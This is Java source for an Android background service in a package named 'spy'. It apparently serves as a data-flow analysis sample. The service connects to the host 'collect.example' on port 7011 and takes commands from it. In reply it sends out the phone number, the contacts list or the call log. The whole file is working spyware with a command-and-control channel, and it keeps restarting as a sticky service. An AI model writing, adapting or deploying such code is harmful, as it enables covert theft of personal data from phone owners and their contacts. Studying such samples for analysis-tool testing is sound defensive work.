package org.example.flows.spy;

import android.app.Service;
import android.content.ContentResolver;
import android.content.Intent;
import android.database.Cursor;
import android.os.IBinder;
import android.provider.CallLog;
import android.provider.ContactsContract;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.PrintStream;
import java.net.Socket;
import org.example.flows.Device;

/** A server says what it wants; each wish has a branch of its own. */
public class Commands extends Service implements Runnable {
    private PrintStream answers;

    @Override
    public int onStartCommand(Intent intent, int flags, int startId) {
        new Thread(this, "commands").start();
        return START_STICKY;
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }

    @Override
    public void run() {
        try {
            Socket socket = new Socket("collect.example", 7011);
            answers = new PrintStream(socket.getOutputStream());
            BufferedReader wishes = new BufferedReader(new InputStreamReader(socket.getInputStream()));
            String wish;
            while ((wish = wishes.readLine()) != null) {
                if (wish.startsWith("who")) {
                    answers.println(Device.phone(this).getLine1Number());
                } else if (wish.startsWith("people")) {
                    rows(getContentResolver(), true);
                } else {
                    rows(getContentResolver(), false);
                }
            }
        } catch (IOException ignored) {
            stopSelf();
        }
    }

    private void rows(ContentResolver resolver, boolean people) {
        Cursor rows = people
                ? resolver.query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null)
                : resolver.query(CallLog.Calls.CONTENT_URI, null, null, null, null);
        while (rows.moveToNext()) {
            answers.println(rows.getString(0));
        }
    }
}
